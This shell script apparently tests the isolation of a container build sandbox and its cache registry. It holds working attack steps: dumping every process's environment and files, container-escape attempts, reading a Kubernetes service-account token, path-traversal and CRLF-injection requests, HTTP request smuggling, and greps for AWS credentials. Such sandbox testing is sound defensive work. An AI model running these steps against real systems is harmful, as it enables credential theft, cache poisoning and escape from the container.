# What a hostile author would put into a job: sh hostile.sh VERB …; plain POSIX shell with busybox's tools.

# probe NAME HOST PORT: whether a TCP connection can be opened
probe() {
    if timeout 6 nc -w 2 "$2" "$3" -e true 2>/dev/null; then echo "PROBE $1 open"; else echo "PROBE $1 closed"; fi
}

# attempt NAME COMMAND…: whether it works
attempt() {
    name=$1
    shift
    if ! command -v "$1" >/dev/null; then
        echo "ATTEMPT $name impossible"
    elif "$@" >/dev/null 2>&1; then
        echo "ATTEMPT $name worked"
    else
        echo "ATTEMPT $name failed"
    fi
}

# Everything that can be read: variables and arguments of all processes, mounts, devices, files.
view() {
    env
    for process in /proc/[0-9]*; do
        echo "process $process"
        tr '\0' '\n' <"$process/environ"
        tr '\0' ' ' <"$process/cmdline"
        echo
    done 2>/dev/null
    cat /proc/self/mountinfo /proc/self/status /proc/net/tcp /proc/net/arp
    ls -la /dev
    find / -path /proc -prune -o -path /sys -prune -o -type f -size -200k -print 2>/dev/null | while read -r file; do
        case "$file" in */view-of-*) continue ;; esac
        echo "file $file"
        tr -dc '\11\12\40-\176' <"$file"
        echo
    done
}

# What root in a container might do to its node.
break_out() {
    attempt mount mount -t tmpfs none /mnt
    attempt mount-proc mount -t proc none /mnt
    attempt device mknod /builds/disk b 8 0
    attempt user-namespace unshare -U true
    attempt namespace unshare -n true
    attempt chroot chroot / true
    attempt hostname hostname intruder
    attempt interface ip link add intruder type dummy
    attempt route ip route add 10.99.0.0/16 via 10.78.1.1
    attempt kernel-setting sh -c 'echo 1 >/proc/sys/kernel/panic'
    attempt kernel-log dmesg
    attempt kubelet-token cat /var/run/secrets/kubernetes.io/serviceaccount/token
    attempt containerd test -S /run/containerd/containerd.sock
    attempt tools sh -c 'echo forged >/driver/tools/supervisor'
}

# send NAME: sends what comes on stdin to the cache registry as it stands, and prints the status of the first answer
send() {
    answer=$(mktemp)
    # nc ends with its input, so that stays open until there is an answer.
    { cat; n=0; until [ -s "$answer" ] || [ $n = 600 ]; do n=$((n + 1)); sleep 0.1; done; } |
        timeout 120 nc 127.0.0.1 "$port" >"$answer" 2>/dev/null
    head -n 1 "$answer" | tr -d '\r' |
        awk -v name="$1" '{ status = $2 } END { print "ANSWER " name " " (status ? status : "none") }'
}

# ask NAME METHOD TARGET [BODY]
ask() {
    printf '%s %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %s\r\n\r\n%s' "$2" "$3" "${#4}" "$4" | send "$1"
}

# begin: starts an upload, prints its path
begin() {
    wget -q -S -O - --post-data='' "http://127.0.0.1:$port/v2/layers/blobs/uploads/" 2>&1 | tr -d '\r' | sed -n 's/^ *Location: //p'
}

# spoil_cache SERVER PLACE KEY: all that the cache registry must not do, where another's entry KEY lies at PLACE of S3
spoil_cache() {
    server=$1
    shift
    port=${KANIKO_DRIVER_CACHE_URL##*:}
    port=${port%%/*}
    layers=/v2/layers
    blob=sha256:$(printf '%064d' 0)
    up=..%2f..%2f..%2f..%2f
    ask encoded GET "$layers/manifests/$up$1%2f$2" &
    ask plain GET "$layers/manifests/../../../../$1/$2" &
    ask proxy GET "http://$server/$1/$2" &
    ask tunnel CONNECT "$server" &
    ask variant GET "$layers/protected/manifests/$2" &
    ask overwrite PUT "$layers/manifests/$up$1%2f$2" '{"layers":[]}' &
    ask foreign-blob PUT "$layers/manifests/forged" "{\"config\":{\"digest\":\"$blob\"},\"layers\":[{\"digest\":\"$blob\"}]}" &
    ask delete DELETE "$layers/manifests/$2" &
    ask injected PUT "$(begin)?digest=$blob%0d%0ax-amz-copy-source:%20/$1/$2" x &
    ask wrong-digest PUT "$(begin)?digest=$blob" x &
    ask upload-elsewhere PATCH "$layers/blobs/uploads/$up$1" x &
    ask keys GET /proc/self/environ &
    ask profile GET /debug/pprof/cmdline &
    ask story POST /driver/story &
    { printf 'GET /v2/ HTTP/1.1\r\nHost: x\r\nX: '; head -c 2000000 /dev/zero | tr '\0' a; printf '\r\n\r\n'; } | send huge-header &
    # A little more than there is room for: nc does not hear an answer while it is still sending.
    { printf 'PATCH %s HTTP/1.1\r\nHost: x\r\nContent-Length: 40000000\r\n\r\n' "$(begin)"; head -c 17500000 /dev/zero; } |
        send huge-upload &
    printf 'GET /v2/none HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s' \
        "PUT $layers/manifests/forged HTTP/1.1" | send smuggled &
    wait
    for process in /proc/[0-9]*; do
        tr '\0' ' ' <"$process/cmdline" | grep -q '^/cache-registry' && echo "SEEN $process"
        tr '\0' '\n' <"$process/environ" | grep '^AWS_' && echo "READ $process"
    done 2>/dev/null
    echo "DONE spoiling"
}

"$@"
